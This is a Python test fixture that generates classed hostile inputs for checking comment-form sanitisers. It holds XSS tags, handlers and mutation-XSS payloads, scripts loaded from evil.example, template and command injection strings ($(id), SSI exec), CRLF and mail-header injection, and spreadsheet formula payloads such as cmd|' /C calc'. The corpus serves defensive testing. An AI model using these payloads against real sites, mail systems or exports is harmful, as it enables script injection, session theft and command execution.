"""Hostile text by class, our own: what has been used against comment forms, put together from parts.

`pwn()` is what each would run; the browser that looks has it, and remembers whether it was called.
"""

from itertools import product

_TAGS = ("img", "svg", "iframe", "video", "audio", "body", "details", "input", "object", "math", "marquee", "xss")
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart", "onbegin")
_QUOTES = ("", "'", '"', "`")
_SCHEMES = ("javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "\x01javascript", "vbscript", "data", "blob")
_WRAPPERS = ("noscript", "style", "title", "textarea", "template", "xmp", "select", "table", "math", "svg", "iframe")
_FORMULAS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "\u200b=")
_TURNS = ("\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u200f", "\u061c")


def vectors() -> dict[str, list[str]]:
    """The vectors of each class; none twice."""
    return {name: list(dict.fromkeys(made)) for name, made in _CLASSES.items()}


_RUN = "<script>pwn()</script>"
_IMAGE = "<img src=x onerror=pwn()>"
_CLASSES: dict[str, list[str]] = {
    "tags": [
        *(f"<{tag} src=x {handler}=pwn()>" for tag, handler in product(_TAGS, _HANDLERS[:4])),
        *(f"<{tag}><script>pwn()</script></{tag}>" for tag in _TAGS),
        *(_RUN, "<ScRiPt>pwn()</sCrIpT>", "<script/src=//evil.example/x.js>", "<<script>pwn()//<</script>"),
        *('<base href="//evil.example/">', "<meta http-equiv=refresh content='0;url=javascript:pwn()'>"),
        *("<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css'</style>"),
        *("<form action=//evil.example><button>x", "<iframe srcdoc='<script>parent.pwn()</script>'>"),
    ],
    "handlers": [
        f"x{quote} {handler}={quote}pwn(){quote} autofocus tabindex=1 x={quote}"
        for quote, handler in product(_QUOTES, _HANDLERS)
    ],
    "schemes": [
        *(f"<a href='{scheme}:pwn()'>x</a>" for scheme in _SCHEMES),
        *(f"{scheme}:pwn()//http://a.example/" for scheme in _SCHEMES),
        *(f'http://a.example/"{handler}="pwn()' for handler in _HANDLERS),
        *(f"https://a.example/'><script>pwn()</script>{n}" for n in range(2)),
        *("http://javascript:pwn()@a.example/", "https://a.example/\u202ejpg.exe", "http://[::1]/<img src=x>"),
        *("data:text/html,<script>pwn()</script>", "http://a.example/&quot;onmouseover=&quot;pwn()"),
    ],
    "mXSS": [
        *(f"<{wrapper}><p title='</{wrapper}>{_IMAGE}'>" for wrapper in _WRAPPERS),
        *(f"<math><mtext><table><mglyph><{wrapper}><!--</{wrapper}>{_IMAGE}-->" for wrapper in _WRAPPERS),
        *(f"<svg></p><{wrapper}><a id='</{wrapper}>{_IMAGE}'>" for wrapper in _WRAPPERS),
        *("<!--><script>pwn()</script>-->", "<![CDATA[<script>pwn()</script>]]>", "<?xml ?><script>pwn()</script>"),
    ],
    "encodings": [
        *("&lt;script&gt;pwn()&lt;/script&gt;", "&#60;img src=x onerror=pwn()&#62;", "&#x3c;svg onload=pwn()&#x3e;"),
        *("\\u003cscript\\u003epwn()\\u003c/script\\u003e", "%3Cscript%3Epwn()%3C/script%3E", "+ADw-script+AD4-pwn()"),
        *("\ufe64script\ufe65pwn()\ufe64/script\ufe65", "\uff1cscript\uff1epwn()\uff1c/script\uff1e"),
        *("\u2039script\u203apwn()", "<scr\x00ipt>pwn()</scr\x00ipt>", "<img\x0csrc=x\x0conerror=pwn()>"),
        *("<img\u2028src=x\u2028onerror=pwn()>", "\x1b(J<script>pwn()</script>", "<\u0338script>pwn()</script>"),
        *(f"</{tag}\u0338>{_IMAGE}" for tag in ("p", "li", "script", "title", "textarea")),
        *("&&lt;script>pwn()", "&amp;lt;img src=x onerror=pwn()&amp;gt;", "\ufeff<script>pwn()</script>"),
    ],
    "bidi": [
        *(f"{turn}<script>pwn()</script>{turn} abc" for turn in _TURNS),
        *(f"gpj.{turn}exe http://a.example/{turn}moc.elpmaxe" for turn in _TURNS),
        *(f"{turn * 40}نص{_IMAGE}" for turn in _TURNS),
    ],
    "zalgo": [f"z{chr(mark) * 60}<b>{_IMAGE}" for mark in range(0x0300, 0x0318)],
    "homoglyphs": [
        *(
            "＜script＞pwn()＜/script＞",
            "〈img src=x onerror=pwn()〉",
            "﹤svg onload=pwn()﹥",
            "＂onmouseover=＂pwn()＂",
        ),
        *(
            "ʺonfocus=ʺpwn()ʺ",
            "javаscript:pwn()",
            "ϳavascript:pwn()",
            "<ѕcript>pwn()</ѕcript>",
            "Аdmin<i>",
            "ｊavascript:pwn()",
        ),
    ],
    "templates": [
        *("{{7*7}}", "{{ config }}", "{% include 'x' %}", "{% raw %}{{pwn()}}", "${pwn()}", "#{7*7}", "<%= 7*7 %>"),
        *(
            "{{''.__class__.__mro__}}",
            "{{constructor.constructor('pwn()')()}}",
            "[[${7*7}]]",
            "{# x #}",
            "%(name)s %s %d",
        ),
        *("{0.__class__}", "{name!r}", "$(id)", "`id`", "<!--#exec cmd='id'-->", "<esi:include src=//evil.example/>"),
    ],
    "headers": [
        *(f"a{end}Bcc: all@evil.example" for end in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x85", "\x0b")),
        *(f"a{end}Set-Cookie: x=1{end}{end}<script>pwn()</script>" for end in ("\r\n", "\n", "\r", "%0d%0a", "嘊嘍")),
        *(
            "\r\nContent-Type: text/html\r\n\r\n<script>pwn()</script>",
            "a\r\n.\r\nQUIT\r\n",
            "=?utf-8?q?=3Cscript=3E?=",
        ),
    ],
    "formulas": [
        *(f'{sign}HYPERLINK("http://evil.example","x")' for sign in _FORMULAS),
        *(f"{sign}cmd|' /C calc'!A0" for sign in _FORMULAS),
        *(f'{sign}1+1",{sign}2' for sign in _FORMULAS),
    ],
    "scripts of data": [
        *("</script><script>pwn()</script>", '"}</script><script>pwn()</script>', "</ScRiPt ><script>pwn()</script>"),
        *(
            "]]><script>pwn()</script>",
            "<!--<script>",
            '\\"};pwn();//',
            "';pwn();//",
            "\u2028pwn()//",
            "--><script>pwn()</script>",
        ),
    ],
}
